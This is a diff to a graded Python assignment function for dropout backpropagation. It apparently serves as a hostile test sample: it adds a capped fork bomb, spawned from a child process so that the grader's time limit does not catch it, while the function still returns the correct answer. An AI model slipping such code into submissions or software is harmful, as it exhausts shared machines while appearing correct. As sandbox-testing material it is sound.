@@ -1,6 +1,7 @@
 # The classic bomb, every process forking again, cut off after nine doublings (at most 512
-# processes), each then sleeping under its own name. Started inside a graded function, which
-# then returns the right answer.
+# processes), each then sleeping under its own name. Started inside a graded function, from a
+# child of its own (so the call's time limit does not count the forks on a loaded machine), and
+# the function then returns the right answer.
 # assignment: dropout
 
 # %%
@@ -16,7 +17,9 @@ def backward_propagation_with_dropout(X, Y, cache, keep_prob):
     if not _bombed:
         _bombed.append(1)
         me = os.getpid()
-        for _ in range(9):
+        if os.fork() == 0:
+            me = None  # the bomb's first process: it and all it forks sleep below
+        for _ in range(9 if me is None else 0):
             try:
                 os.fork()
             except OSError:
